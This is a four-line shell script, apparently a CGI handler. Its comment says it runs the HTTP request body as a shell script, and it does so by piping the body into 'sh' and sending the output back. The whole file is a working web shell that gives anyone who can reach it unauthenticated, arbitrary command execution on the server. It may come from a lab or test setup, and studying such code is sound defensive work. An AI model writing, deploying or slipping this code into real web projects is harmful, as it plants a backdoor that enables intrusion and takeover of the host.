#!/bin/sh
# Runs the request's body as a shell script.
printf 'Content-Type: text/plain\r\n\r\n'
sh 2>&1
